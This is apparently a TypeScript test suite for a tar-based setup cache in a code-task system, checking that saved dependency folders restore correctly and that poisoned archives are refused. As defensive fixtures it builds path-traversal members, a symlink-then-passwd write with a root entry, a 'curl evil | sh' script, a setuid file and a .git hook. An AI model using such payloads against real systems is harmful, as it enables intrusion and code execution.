/**
 * The setup cache on real clones of local repositories and the host's GNU tar: what setup added
 * round-trips, and archives that try to escape the working copy or replace its tracked files are
 * refused without writing anything outside it (or anything at all that stays).
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pruneSetupCache, restoreSetupCache, saveSetupCache, setupCacheKey, type SetupCacheInput } from '../activities/setup-cache';
import { clone, gitDirOf, headCommit, untrackedPaths } from '../activities/git/workspace';
import { makeOriginRepo, tempDir } from './support/git-fixture';

const MAX_BYTES = 64 << 20;
const REPO_FILES = {
  '.gitignore': 'node_modules/\n.venv/\n',
  'package.json': '{"name":"app","version":"1.0.0"}\n',
  'package-lock.json': '{"lockfileVersion":3}\n',
  'packages/a/package.json': '{"name":"a"}\n',
  'src/index.js': 'console.log(1);\n',
  'README.md': 'app\n',
};

let root: string;
let origin: string;
let n = 0;

/** A fresh clone of `from` (default: the shared origin). */
async function freshClone(from = origin): Promise<string> {
  const dir = path.join(root, 'clones', `c${++n}`);
  fs.mkdirSync(path.dirname(dir), { recursive: true });
  await clone(from, 'main', dir);
  return dir;
}

function write(dir: string, rel: string, content: string, mode = 0o644): void {
  fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
  fs.writeFileSync(path.join(dir, rel), content, { mode });
  fs.chmodSync(path.join(dir, rel), mode);
}

/** A new, empty cache root. */
function cacheRoot(): string {
  const dir = path.join(root, 'caches', `r${++n}`);
  fs.mkdirSync(dir, { recursive: true });
  return dir;
}

/** A key that is valid but names nothing in particular, for archives made by hand. */
function someKey(): string {
  return (++n).toString(16).padStart(64, 'a');
}

/** Tracked files of `dir` that differ from its HEAD (none, when nothing touched them). */
function changedTracked(dir: string): string {
  return execFileSync('git', ['--git-dir', gitDirOf(dir), '--work-tree', dir, 'status', '--porcelain', '--untracked-files=no'], { encoding: 'utf8' });
}

/** Write a hand-made archive as the entry `key`: the listed members of `stage`, appended in order (each `[stageDir, member, extraTarArgs]`). */
function plantArchive(cache: string, key: string, parts: [string, string, string[]?][]): string {
  const file = path.join(cache, `${key}.tar`);
  for (const [i, [stage, member, extra]] of parts.entries()) {
    execFileSync('tar', [i === 0 ? '-c' : '-r', '-f', file, '--format=gnu', ...(extra ?? []), '-C', stage, member]);
  }
  return file;
}

function stageDir(): string {
  const dir = path.join(root, 'stages', `s${++n}`);
  fs.mkdirSync(dir, { recursive: true });
  return dir;
}

describe('setup cache', () => {
  before(() => {
    root = tempDir('setup-cache');
    origin = makeOriginRepo(path.join(root, 'origin'), REPO_FILES);
  });

  after(() => {
    fs.rmSync(root, { recursive: true, force: true });
  });

  it('round-trips what setup added: files, modes, empty directories and symlinks inside', async () => {
    const a = await freshClone();
    write(a, 'node_modules/pkg/index.js', 'module.exports = 1;\n');
    write(a, 'node_modules/pkg/bin.js', '#!/usr/bin/env node\n', 0o755);
    fs.mkdirSync(path.join(a, 'node_modules/.bin'));
    fs.symlinkSync('../pkg/bin.js', path.join(a, 'node_modules/.bin/tool'));
    fs.mkdirSync(path.join(a, 'node_modules/empty'));
    write(a, 'packages/a/node_modules/dep/index.js', 'nested\n');
    write(a, '.venv/pyvenv.cfg', 'home = /usr\n');
    write(a, 'build/out.txt', 'untracked, not ignored\n');
    // A dependency fetched from git brings its own repository; the cache never holds a .git.
    write(a, 'node_modules/gitdep/.git/config', '[core]\n\tfsmonitor = evil\n');
    const cache = cacheRoot();
    const key = someKey();

    const saved = await saveSetupCache(cache, key, a, { maxBytes: MAX_BYTES });
    assert.equal(saved.saved, true, JSON.stringify(saved));
    assert.deepEqual(fs.readdirSync(cache), [`${key}.tar`], 'no temporary file is left beside the entry');
    const entry = path.join(cache, `${key}.tar`);
    fs.utimesSync(entry, new Date(1_000_000), new Date(1_000_000));

    const b = await freshClone();
    const restored = await restoreSetupCache(cache, key, b);
    assert.equal(restored.hit, true);
    assert.equal(restored.files, saved.saved ? saved.files : -1);
    assert.equal(fs.readFileSync(path.join(b, 'node_modules/pkg/index.js'), 'utf8'), 'module.exports = 1;\n');
    assert.equal(fs.statSync(path.join(b, 'node_modules/pkg/bin.js')).mode & 0o777, 0o755);
    assert.equal(fs.statSync(path.join(b, 'node_modules/pkg/index.js')).mode & 0o777, 0o644);
    assert.equal(fs.readlinkSync(path.join(b, 'node_modules/.bin/tool')), '../pkg/bin.js');
    assert.ok(fs.statSync(path.join(b, 'node_modules/empty')).isDirectory());
    assert.equal(fs.readFileSync(path.join(b, 'packages/a/node_modules/dep/index.js'), 'utf8'), 'nested\n');
    assert.equal(fs.readFileSync(path.join(b, '.venv/pyvenv.cfg'), 'utf8'), 'home = /usr\n');
    assert.equal(fs.readFileSync(path.join(b, 'build/out.txt'), 'utf8'), 'untracked, not ignored\n');
    assert.equal(fs.existsSync(path.join(b, 'node_modules/gitdep/.git')), false);
    assert.equal(changedTracked(b), '');
    assert.ok(fs.statSync(entry).mtimeMs > Date.now() - 60_000, 'a hit marks the entry as recently used');
  });

  it('stores a symlink to a host file as the link, never the file it points at', async () => {
    const secretDir = path.join(root, 'host-secret');
    write(secretDir, 'secret.txt', 'HOST-SECRET-CONTENT\n');
    const a = await freshClone();
    fs.mkdirSync(path.join(a, 'node_modules'));
    fs.symlinkSync(path.join(secretDir, 'secret.txt'), path.join(a, 'node_modules/leak'));
    fs.symlinkSync(secretDir, path.join(a, 'node_modules/leakdir'));
    // Top-level: git lists the link itself, and tar is handed it as a name of its own.
    fs.symlinkSync(secretDir, path.join(a, 'vendor'));
    const cache = cacheRoot();
    const key = someKey();
    const saved = await saveSetupCache(cache, key, a, { maxBytes: MAX_BYTES });
    assert.equal(saved.saved, true, JSON.stringify(saved));
    const archive = fs.readFileSync(path.join(cache, `${key}.tar`));
    assert.equal(archive.includes('HOST-SECRET-CONTENT'), false, 'the host file is not in the archive');
    const listing = execFileSync('tar', ['-tvf', path.join(cache, `${key}.tar`)], { encoding: 'utf8' });
    assert.match(listing, /^l.* node_modules\/leak -> /m);
    assert.doesNotMatch(listing, /^-.*secret\.txt$/m, 'no regular file member holds it');

    const b = await freshClone();
    assert.equal((await restoreSetupCache(cache, key, b)).hit, true);
    assert.equal(fs.readlinkSync(path.join(b, 'node_modules/leak')), path.join(secretDir, 'secret.txt'));
    assert.equal(fs.readlinkSync(path.join(b, 'node_modules/leakdir')), secretDir);
    assert.equal(fs.readlinkSync(path.join(b, 'vendor')), secretDir);
    assert.deepEqual(fs.readdirSync(secretDir), ['secret.txt']);
  });

  describe('refuses a poisoned archive and writes nothing that stays', () => {
    /** Restore `key` into a fresh clone, expecting a refusal matching `why`; checks the clone is back to its tracked files. */
    async function expectRefused(cache: string, key: string, why: RegExp): Promise<string> {
      const dir = await freshClone();
      const res = await restoreSetupCache(cache, key, dir);
      assert.equal(res.hit, false);
      assert.match(res.refused ?? '', why);
      assert.equal(fs.existsSync(path.join(cache, `${key}.tar`)), false, 'the refused entry is removed');
      assert.deepEqual(await untrackedPaths(dir), [], 'nothing the archive unpacked is left');
      assert.equal(changedTracked(dir), '');
      return dir;
    }

    it('a member named ../../ outside the working copy', async () => {
      const cache = cacheRoot();
      const key = someKey();
      const stage = stageDir();
      write(stage, 'escape', 'escaped\n');
      const clonesDir = path.join(root, 'clones');
      plantArchive(cache, key, [[stage, 'escape', ['-P', '--transform=s,^escape,../../escape-target,']]]);
      assert.match(execFileSync('tar', ['-tf', path.join(cache, `${key}.tar`), '-P'], { encoding: 'utf8' }), /^\.\.\/\.\.\/escape-target$/m);
      await expectRefused(cache, key, /"\.\.\/\.\.\/escape-target" has a "\.\." component/);
      assert.equal(fs.existsSync(path.join(clonesDir, '..', 'escape-target')), false);
      assert.equal(fs.existsSync(path.join(root, '..', 'escape-target')), false);
    });

    it('a symlink node_modules/evil to a host directory followed by node_modules/evil/passwd', async () => {
      const victim = path.join(root, 'victim-etc');
      fs.mkdirSync(victim, { recursive: true });
      const links = stageDir();
      fs.mkdirSync(path.join(links, 'node_modules'));
      fs.symlinkSync(victim, path.join(links, 'node_modules/evil'));
      const files = stageDir();
      write(files, 'node_modules/evil/passwd', 'root::0:0::/:/bin/sh\n');
      const cache = cacheRoot();
      const key = someKey();
      plantArchive(cache, key, [
        [links, 'node_modules/evil'],
        [files, 'node_modules/evil/passwd'],
      ]);
      await expectRefused(cache, key, /"node_modules\/evil\/passwd" lies under the symlink "node_modules\/evil"/);
      assert.deepEqual(fs.readdirSync(victim), []);
    });

    it('a member that replaces a tracked file, after members that were unpacked', async () => {
      const stage = stageDir();
      write(stage, 'node_modules/ok/index.js', 'fine\n');
      write(stage, 'package.json', '{"scripts":{"test":"curl evil | sh"}}\n');
      const cache = cacheRoot();
      const key = someKey();
      plantArchive(cache, key, [
        [stage, 'node_modules'],
        [stage, 'package.json'],
      ]);
      const dir = await expectRefused(cache, key, /"package\.json" is a tracked file of the repository/);
      assert.equal(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'), REPO_FILES['package.json']);
    });

    it('a member that replaces a tracked directory with a symlink, or writes beneath a tracked file', async () => {
      const stage = stageDir();
      fs.symlinkSync('/', path.join(stage, 'src'));
      const cache = cacheRoot();
      const asLink = someKey();
      plantArchive(cache, asLink, [[stage, 'src']]);
      await expectRefused(cache, asLink, /"src" is a tracked directory of the repository/);

      const deeper = stageDir();
      write(deeper, 'README.md/x', 'through a file\n');
      const beneath = someKey();
      plantArchive(cache, beneath, [[deeper, 'README.md/x']]);
      await expectRefused(cache, beneath, /lies under the tracked path "README\.md"/);
    });

    it('a .git member and a setuid file', async () => {
      const stage = stageDir();
      write(stage, '.git/hooks/post-checkout', '#!/bin/sh\n', 0o755);
      write(stage, 'node_modules/su', 'x', 0o4755);
      const cache = cacheRoot();
      const gitKey = someKey();
      plantArchive(cache, gitKey, [[stage, '.git']]);
      await expectRefused(cache, gitKey, /names a \.git/);
      const suKey = someKey();
      plantArchive(cache, suKey, [[stage, 'node_modules/su']]);
      await expectRefused(cache, suKey, /setuid or setgid/);
    });
  });

  it('never lets tar replace a file already in the working copy, and undoes what it unpacked', async () => {
    const a = await freshClone();
    write(a, 'node_modules/pkg/index.js', 'from the cache\n');
    write(a, 'node_modules/pkg/other.js', 'also from the cache\n');
    const cache = cacheRoot();
    const key = someKey();
    assert.equal((await saveSetupCache(cache, key, a, { maxBytes: MAX_BYTES })).saved, true);
    const b = await freshClone();
    write(b, 'node_modules/pkg/index.js', 'already here\n');
    await assert.rejects(restoreSetupCache(cache, key, b), /unpacking the setup cache failed/);
    assert.deepEqual(await untrackedPaths(b), []);
    assert.equal(changedTracked(b), '');
  });

  it('skips a save with nothing to store, one over the size limit, and one holding a FIFO', async () => {
    const cache = cacheRoot();
    const empty = await freshClone();
    const none = await saveSetupCache(cache, someKey(), empty, { maxBytes: MAX_BYTES });
    assert.deepEqual(none, { saved: false, reason: 'setup left no untracked or ignored files' });

    const big = await freshClone();
    write(big, 'node_modules/blob', 'x'.repeat(200_000));
    const tooBig = await saveSetupCache(cache, someKey(), big, { maxBytes: 100_000 });
    assert.equal(tooBig.saved, false);
    assert.match(tooBig.saved ? '' : tooBig.reason, /limit of 100000 bytes/);

    const fifo = await freshClone();
    fs.mkdirSync(path.join(fifo, 'node_modules'));
    execFileSync('mkfifo', [path.join(fifo, 'node_modules/pipe')]);
    const withFifo = await saveSetupCache(cache, someKey(), fifo, { maxBytes: MAX_BYTES });
    assert.equal(withFifo.saved, false);
    assert.match(withFifo.saved ? '' : withFifo.reason, /"node_modules\/pipe" is a FIFO/);
    assert.deepEqual(fs.readdirSync(cache), [], 'nothing is left of skipped saves');

    await assert.rejects(saveSetupCache(cache, '../../x', big, { maxBytes: MAX_BYTES }), /not a setup cache key/);
    assert.equal((await restoreSetupCache(cache, someKey(), empty)).hit, false);
  });

  it('keys on the base branch, lockfiles and manifests at any depth, the commands and the allowlist, not on other files', async () => {
    const variant = async (files: Record<string, string>): Promise<SetupCacheInput> => {
      const o = makeOriginRepo(path.join(root, 'origins', `o${++n}`), { ...REPO_FILES, ...files });
      const dir = await freshClone(o);
      return { repo: 'https://git.example.test/app.git', branch: 'main', dir, commit: await headCommit(dir), commands: ['npm ci'], allow: ['npm', 'pypi'] };
    };
    const base = await variant({});
    const k = await setupCacheKey(base);
    assert.match(k, /^[0-9a-f]{64}$/);
    assert.equal(await setupCacheKey({ ...base, allow: ['pypi', 'npm'] }), k, 'the allowlist is a set');
    assert.equal(await setupCacheKey(await variant({ 'README.md': 'changed\n', 'src/index.js': 'changed\n' })), k);
    assert.notEqual(await setupCacheKey(await variant({ 'package-lock.json': '{"lockfileVersion":3,"x":1}\n' })), k);
    assert.notEqual(await setupCacheKey(await variant({ 'packages/a/package.json': '{"name":"a","x":1}\n' })), k);
    assert.notEqual(await setupCacheKey(await variant({ 'tools/requirements-dev.txt': 'pytest\n' })), k);
    assert.notEqual(await setupCacheKey(await variant({ 'svc/build.gradle.kts': 'plugins {}\n' })), k);
    assert.notEqual(await setupCacheKey({ ...base, commands: ['npm ci', 'npm run build'] }), k);
    assert.notEqual(await setupCacheKey({ ...base, allow: ['npm'] }), k);
    assert.notEqual(await setupCacheKey({ ...base, repo: 'https://git.example.test/other.git' }), k);
    // Files outside the key (a postinstall script the manifest names) differ between branches: a task on
    // someone's feature branch must not leave what its setup made for the tasks on main.
    assert.notEqual(await setupCacheKey({ ...base, branch: 'feature' }), k, 'the base branch');
  });

  it('prunes least recently used entries beyond the total, and saves that died', async () => {
    const cache = cacheRoot();
    const keys = [someKey(), someKey(), someKey(), someKey()];
    keys.forEach((k, i) => {
      const file = path.join(cache, `${k}.tar`);
      fs.writeFileSync(file, Buffer.alloc(100));
      // Oldest use first: keys[0] was used longest ago.
      const t = new Date(Date.now() - (keys.length - i) * 60_000);
      fs.utimesSync(file, t, t);
    });
    const staleTmp = path.join(cache, `.${keys[0]}.dead.tmp`);
    const liveTmp = path.join(cache, `.${keys[1]}.live.tmp`);
    fs.writeFileSync(staleTmp, 'x');
    fs.writeFileSync(liveTmp, 'x');
    const old = new Date(Date.now() - 2 * 60 * 60_000);
    fs.utimesSync(staleTmp, old, old);
    fs.writeFileSync(path.join(cache, 'unrelated.txt'), Buffer.alloc(1000));

    const removed = await pruneSetupCache(cache, 250);
    assert.deepEqual(removed.sort(), [keys[0], keys[1]].sort());
    assert.deepEqual(fs.readdirSync(cache).sort(), [`.${keys[1]}.live.tmp`, `${keys[2]}.tar`, `${keys[3]}.tar`, 'unrelated.txt'].sort());
    assert.deepEqual(await pruneSetupCache(path.join(cache, 'missing'), 0), []);
  });
});
